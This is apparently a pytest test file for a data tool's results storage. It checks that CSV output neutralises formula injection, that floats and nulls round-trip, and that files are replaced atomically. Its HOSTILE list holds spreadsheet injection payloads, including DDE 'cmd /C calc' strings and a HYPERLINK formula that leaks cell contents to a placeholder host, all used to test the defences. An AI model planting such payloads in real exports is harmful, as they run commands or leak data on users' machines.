"""Results are written whole or not at all, numbers as numbers, hostile text as text."""

import csv
import json
import math
import os
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from molaudit.storage import results
from molaudit.storage.errors import StorageError
from molaudit.storage.tables import reading as tables

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "-3.05 mol/L",
    "-",
    "+",
    "-inf",
    "-1_000",
    "--1",
    "-3.05\n=1",
    "-٣",
]
HARMLESS = [
    "-3.05",
    "+1e-5",
    "-.5",
    "-5.",
    "+3E+10",
    "-0",
    "a=b",
    "1=2",
    " =1",
    "",
    "O=C=O",
    "[O-]",
    "'=1",
    "#N",
]


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream, strict=True))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_is_defused(tmp_path: Path, text: str) -> None:
    results.write_csv(pl.DataFrame({"text": [text], text: ["x"]}), tmp_path / "t.csv")
    assert cells(tmp_path / "t.csv") == [["text", "'" + text], ["'" + text, "x"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_untouched(tmp_path: Path, text: str) -> None:
    results.write_csv(pl.DataFrame({"a": [text], "b": ["x"]}), tmp_path / "t.csv")
    assert cells(tmp_path / "t.csv")[1] == [text, "x"]


@settings(deadline=None, max_examples=200)
@given(
    text=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=20)
)
def test_no_text_begins_like_a_formula_and_all_of_it_comes_back(
    text: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.getbasetemp() / "text.csv"
    results.write_csv(pl.DataFrame({"a": [text], "b": ["x"]}), path)
    written = tables.read(path, tables.Columns(required=("a", "b"))).frame["a"][0]
    assert written in (text, "'" + text)
    if written[0] in "=+-@\t\r\n＝＋－＠":
        assert math.isfinite(float(written)) or "e" in written.lower()


@settings(deadline=None, max_examples=200)
@given(value=st.floats(allow_nan=False))
def test_floats_come_back_as_the_same_floats(value: float, tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.getbasetemp() / "floats.csv"
    results.write_csv(pl.DataFrame({"a": [value]}, schema={"a": pl.Float64}), path)
    found = float(cells(path)[1][0])
    assert found == value
    assert math.copysign(1, found) == math.copysign(1, value)


def test_nulls_numbers_and_lists_have_their_spelling(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "text": ["a,b", None],
            "number": [-3.05, None],
            "tail": [1e-300, 0.0],
            "count": [-3, None],
            "flag": [True, None],
            "cautions": [["=skill", "few answers"], []],
            "kind": pl.Series(["-x", None], dtype=pl.Categorical),
        }
    )
    results.write_csv(frame, tmp_path / "t.csv")
    lines = (tmp_path / "t.csv").read_bytes().split(b"\n")
    assert lines[0] == b"text,number,tail,count,flag,cautions,kind"
    assert lines[1] == b"\"a,b\",-3.05,1e-300,-3,true,'=skill; few answers,'-x"
    assert cells(tmp_path / "t.csv")[2] == ["", "", "0.0", "", "", "", ""]


def test_parquet_keeps_values_as_they_are(tmp_path: Path) -> None:
    frame = pl.DataFrame({"text": ["=1+1", None], "p": [1e-300, None], "list": [["a"], []]})
    results.write_parquet(frame, tmp_path / "t.parquet")
    assert pl.read_parquet(tmp_path / "t.parquet").equals(frame, null_equal=True)


def test_json_is_readable_and_refuses_what_json_has_not(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "run.json"
    results.write_json({"seed": 7, "model": "é\ud83e", "p": 1e-300}, path)
    assert json.loads(path.read_text()) == {"seed": 7, "model": "é\ud83e", "p": 1e-300}
    for bad in (float("nan"), float("inf"), {1, 2}):
        with pytest.raises(StorageError, match="cannot be written as JSON"):
            results.write_json({"p": bad}, path)
    assert json.loads(path.read_text())["seed"] == 7


def test_the_name_chooses_the_kind_of_table(tmp_path: Path) -> None:
    frame = pl.DataFrame({"a": [1]})
    results.write_table(frame, tmp_path / "t.csv")
    results.write_table(frame, tmp_path / "t.PARQUET")
    assert (tmp_path / "t.csv").read_bytes() == b"a\n1\n"
    assert (tmp_path / "t.PARQUET").read_bytes()[:4] == b"PAR1"
    with pytest.raises(StorageError, match=r"unknown kind of table\. Allowed: \.csv, \.parquet"):
        results.write_table(frame, tmp_path / "t.xlsx")


def test_a_failure_leaves_what_was_there_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    results.write_csv(pl.DataFrame({"a": [1]}), path)
    half = pl.DataFrame({"a": [{"x": 1}]})
    with pytest.raises(StorageError, match=r"t\.csv: cannot be written"):
        results.write_csv(half, path)

    def interrupted(stream: object) -> None:
        stream.write(b"half")  # type: ignore[attr-defined]
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        results.replace(path, interrupted)
    assert path.read_bytes() == b"a\n1\n"
    assert os.listdir(tmp_path) == ["t.csv"]


def test_readers_see_the_old_file_or_the_new_one(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes(b"old")

    def write(stream: object) -> None:
        stream.write(b"new, half")  # type: ignore[attr-defined]
        assert path.read_bytes() == b"old"
        stream.write(b" and whole")  # type: ignore[attr-defined]

    results.replace(path, write)
    assert path.read_bytes() == b"new, half and whole"


def test_places_that_cannot_be_written_are_named(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    (tmp_path / "folder").mkdir()
    for path in (
        tmp_path / "file" / "t.csv",
        tmp_path / "folder",
        Path("/proc/none/t.csv"),
        tmp_path / "a\0b",
    ):
        with pytest.raises(StorageError) as caught:
            results.write_csv(pl.DataFrame({"a": [1]}), path)
        assert str(path) in str(caught.value)
        assert "cannot be written" in str(caught.value)
    assert sorted(os.listdir(tmp_path)) == ["file", "folder"]
